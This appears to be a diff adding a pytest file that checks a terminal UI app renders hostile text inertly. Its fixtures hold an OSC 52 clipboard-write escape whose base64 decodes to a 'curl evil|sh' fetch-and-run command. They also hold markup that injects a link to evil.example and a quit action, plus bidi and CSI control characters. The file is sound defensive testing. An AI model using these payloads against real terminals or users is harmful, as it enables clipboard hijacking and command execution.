@@ -1,0 +1,194 @@
+"""Hostile text on the screens: what is drawn, said, titled and copied."""
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, Final
+
+import msgspec
+import pytest
+from textual.app import App
+from textual.pilot import Pilot
+from textual.screen import Screen
+
+from advisor.domain import events as ev
+from advisor.domain.advice import Command, Contender, Estimate, Limit
+from advisor.domain.endpoints import Pair
+from advisor.domain.printable import is_printable
+from advisor.domain.problem import Problem, ProblemKind
+from advisor.domain.records import ProbeRecord
+from advisor.store.history import Store
+from advisor.testing.samples import a_path, measured
+from advisor.tui.app import AdvisorApp
+from advisor.tui.features.advising.draft import Draft
+from advisor.tui.features.advising.screens.advice import AdviceScreen
+from advisor.tui.features.advising.screens.comparison import ComparisonScreen
+from advisor.tui.features.advising.session_model import SessionModel
+from advisor.tui.kit.copying import clipboard
+from advisor.tui.kit.copying.copyable import Copyable
+
+CLIPBOARD: Final = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+MARKUP: Final = "[b][link='http://evil.example']x[/link][@click=app.quit]y[/]"
+EVIL: Final = f"{CLIPBOARD}\u202e\x9b31m{MARKUP}"
+SETTING: Final = {"streams": 4, "buffer_bytes": 4194304}
+
+
+@pytest.fixture(autouse=True)
+def own_folders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for kind in ("STATE", "CACHE", "DATA", "CONFIG"):
+        monkeypatch.setenv(f"XDG_{kind}_HOME", str(tmp_path / kind.lower()))
+
+
+def shown(app: App[Any]) -> str:
+    """The text of the screen as it is drawn; nothing in it is for the terminal to obey."""
+    strips = app.screen._compositor.render_strips()
+    segments = [segment for strip in strips for segment in strip]
+    assert [s.text for s in segments if not is_printable(s.text)] == []
+    # Neither a link nor an action of Textual came from the data.
+    links = [s.style.link for s in segments if s.style and s.style.link]
+    actions = [s.style.meta for s in segments if s.style and s.style.meta.get("@click")]
+    assert (links, actions) == ([], [])
+    return "\n".join("".join(segment.text for segment in strip) for strip in strips)
+
+
+def hostile_advice() -> ev.AdviceGiven:
+    return ev.AdviceGiven(
+        at_s=60.0,
+        pair=Pair("here", EVIL),
+        subject=EVIL,
+        setting={"congestion": EVIL, "streams": 4},
+        expected_bps=9e9,
+        interval_bps=(8e9, 1e10),
+        default_bps=3e9,
+        gain=Estimate(3.0, (2.5, 3.5)),
+        limits=[Limit(what=EVIL, side="source", remedy=f"sysctl {EVIL}")],
+        reasons=[EVIL],
+        commands=[
+            Command(tool=EVIL, side="source", argv=["cp", EVIL], shell=f"cp '{EVIL}'", note=EVIL)
+        ],
+        contenders=[
+            Contender(
+                role=EVIL,
+                subject=EVIL,
+                setting={"congestion": EVIL},
+                throughput=Estimate(9e9, (8e9, 1e10)),
+                probes=4,
+            )
+        ],
+        incomplete=False,
+        session=EVIL,
+    )
+
+
+def hostile_session(*ends: ev.AnyEvent) -> SessionModel:
+    started = ev.SessionStarted(
+        at_s=0, session=EVIL, pair=Pair("here", EVIL), method=EVIL, seed=1, budget_s=60.0
+    )
+    return SessionModel(
+        [
+            started,
+            ev.PathFound(at_s=0.1, path=a_path(), limits=[]),
+            ev.StageStarted(at_s=0.3, stage=EVIL, subject=EVIL, budget_s=30.0),
+            ev.Notice(at_s=0.4, message=EVIL),
+            ev.ProbeStarted(
+                at_s=1, ordinal=1, stage=EVIL, purpose="search", subject=EVIL, setting=SETTING
+            ),
+            ev.ProbeEnded(
+                at_s=5,
+                ordinal=1,
+                stage=EVIL,
+                purpose="search",
+                subject=EVIL,
+                setting=SETTING,
+                result=measured(1e9),
+                remaining_s=30.0,
+                label=EVIL,
+            ),
+            ev.StageEnded(at_s=30.0, stage=EVIL, reason=EVIL, probes=1, elapsed_s=30.0),
+            *ends,
+        ]
+    )
+
+
+GAVE_UP: Final = ev.GaveUp(
+    at_s=60,
+    message=EVIL,
+    exit_code=1,
+    problem=Problem(kind=ProblemKind.FAILED, reason=EVIL, remedy=EVIL, command=EVIL, host=EVIL),
+)
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize(
+    "screen",
+    [
+        lambda: AdviceScreen(hostile_session(hostile_advice())),
+        lambda: AdviceScreen(hostile_session(GAVE_UP)),
+        lambda: ComparisonScreen(hostile_session(hostile_advice())),
+        lambda: ComparisonScreen(hostile_session(GAVE_UP)),
+    ],
+)
+async def test_a_session_with_hostile_text(
+    tmp_path: Path, screen: Callable[[], Screen[None]]
+) -> None:
+    app = AdvisorApp(Store(tmp_path / "store"), Draft())
+    async with app.run_test(notifications=True, size=(120, 50)) as pilot:
+        app.open(screen())
+        await pilot.pause(0.2)
+        assert "link='http://evil" in shown(app)
+        app.action_help_here()
+        await pilot.pause(0.1)
+        shown(app)
+
+
+@pytest.mark.asyncio
+async def test_a_message_is_never_markup(tmp_path: Path) -> None:
+    app = AdvisorApp(Store(tmp_path / "store"), Draft())
+    async with app.run_test(notifications=True, size=(120, 40)) as pilot:
+        app.notify(EVIL, title=EVIL, markup=True)
+        app.screen.notify(MARKUP)
+        app.refuse(EVIL)
+        await pilot.pause(0.3)
+        assert "[b][link=" in shown(app)
+
+
+@pytest.mark.asyncio
+async def test_a_history_with_hostile_names(tmp_path: Path) -> None:
+    store = Store(tmp_path / "store")
+    probe = ProbeRecord(
+        pair=Pair("here", MARKUP),
+        subject="tcp",
+        setting=SETTING,
+        result=measured(1e9),
+        recorded_s=1.7e9,
+        session="20260101T000000Z-aaaaaa",
+    )
+    store.append(probe)
+    store.append(msgspec.structs.replace(probe, subject=EVIL, label=EVIL, session=EVIL))
+    app = AdvisorApp(store, Draft())
+    async with app.run_test(notifications=True, size=(160, 50)) as pilot:
+        await _until_shown(pilot, app, "[b]")
+        app.go("review")
+        await _until_shown(pilot, app, "[b]")
+
+
+async def _until_shown(pilot: Pilot[int], app: App[Any], words: str) -> None:
+    for _ in range(200):
+        if words in shown(app):
+            return
+        await pilot.pause(0.05)
+    raise AssertionError(f"{words} is not shown: {shown(app)}")
+
+
+@pytest.mark.asyncio
+async def test_only_what_can_be_seen_is_copied(tmp_path: Path) -> None:
+    app = AdvisorApp(Store(tmp_path / "store"), Draft())
+    async with app.run_test(notifications=True, size=(120, 40)) as pilot:
+        copyable = Copyable(f"true{CLIPBOARD}")
+        await app.screen.mount(copyable)
+        copyable.action_copy()
+        await pilot.pause(0.1)
+        assert "Not copied" in shown(app)
+        with pytest.raises(ValueError, match="control characters"):
+            clipboard.copy(app, "true\u202e")
+        copyable.mend(GAVE_UP.problem)
+        assert copyable.line == ""
